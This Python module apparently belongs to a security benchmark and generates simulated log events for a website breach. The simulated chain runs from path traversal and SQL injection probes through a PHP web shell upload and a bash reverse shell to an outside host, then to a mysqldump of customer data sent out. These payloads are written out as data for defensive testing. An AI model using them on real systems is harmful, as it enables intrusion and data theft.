"""A way in through the website, by somebody who shares their address with customers."""

from __future__ import annotations

import random

from benchmarks.disruption.campaigns.campaign import Campaign, Step
from benchmarks.disruption.event import MINUTE, SECOND, Event
from benchmarks.disruption.firm import SERVERS, WEB, Firm, outside
from benchmarks.disruption.writing import asked, conn, linux, linux_connected, linux_wrote

SHELL = "/uploads/cv/profile.php"
PHP = "/usr/sbin/php-fpm8.2"


def campaign(firm: Firm, chance: random.Random, begin: int) -> Campaign:
    """Probe, injection, upload, shell, a way out, and the customers' data on it."""
    client = chance.choice([one.address for one in firm.customers if one.through == "nat"])
    home = outside(chance)
    agent = firm.customers[chance.randrange(50)].agent
    pid = chance.randrange(61_000, 64_000)

    def request(time: int, method: str, target: str, status: int, size: int = 900) -> Event:
        return asked(time, client, method, target, status, size, agent)

    def probe(time: int) -> list[Event]:
        ways = ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd")
        return [
            request(time + n * 4 * SECOND, "GET", f"/download.php?file={way}", 403)
            for n, way in enumerate(ways)
        ]

    def inject(time: int) -> list[Event]:
        ways = (
            "1%27%20or%20%271%27=%271",
            "1%20union%20select%201,2,3--%20",
            "1%20union%20select%20table_name,2,3%20from%20information_schema.tables",
        )
        return [
            request(time + n * 9 * SECOND, "GET", f"/catalog.php?id={way}", 200, 8_000)
            for n, way in enumerate(ways)
        ]

    def upload(time: int) -> list[Event]:
        name = f"/var/www/html{SHELL}"
        return [
            request(time, "POST", "/careers/upload.php", 302),
            linux_wrote(time + 1000, WEB, "www-data", PHP, name, 812),
        ]

    def shell(time: int) -> list[Event]:
        made = []
        for n, word in enumerate(("id", "whoami", "uname+-a")):
            at = time + n * 12 * SECOND
            said = word.replace("+", " ")
            made.append(request(at, "GET", f"{SHELL}?c={word}", 200))
            made.append(
                linux(at + 1000, WEB, "www-data", "/usr/bin/dash", f"sh -c {said}", PHP, pid + n)
            )
        return made

    def way_out(time: int) -> list[Event]:
        line = f"bash -c bash -i >& /dev/tcp/{home}/443 0>&1"
        begun = linux(time + 1000, WEB, "www-data", "/usr/bin/bash", line, PHP, pid + 9)
        return [
            request(time, "GET", f"{SHELL}?c=bash+-c+x", 200),
            begun._replace(keys=(*begun.keys, f"alive:{WEB}/{pid + 9}")),
            *talk(time + 2000, 3_000),
        ]

    def dump(time: int) -> list[Event]:
        line = "mysqldump -u shop shop customers -r /tmp/.c"
        return [
            linux(time, WEB, "www-data", "/usr/bin/mysqldump", line, "/usr/bin/bash", pid + 10),
            *talk(time + 1000, 2_000),
        ]

    def talk(time: int, sent: int) -> list[Event]:
        own = SERVERS[WEB]
        return [
            linux_connected(time, WEB, "www-data", "/usr/bin/bash", pid + 9, own, home, 443),
            conn(time + 10, own, home, 443, sent, 900),
        ]

    return Campaign(
        "website",
        "the customers' data is out",
        begin,
        (
            Step("probe", 0, probe, waits=False),
            Step("injection", 4 * MINUTE, inject, waits=False),
            Step("upload", 6 * MINUTE, upload),
            Step("shell", 2 * MINUTE, shell, needs=("upload",)),
            Step("way out", 5 * MINUTE, way_out, needs=("shell",)),
            Step("dump", 8 * MINUTE, dump, needs=("way out",)),
            Step("data out", 6 * MINUTE, lambda time: talk(time, 90_000_000), needs=("dump",)),
        ),
    )
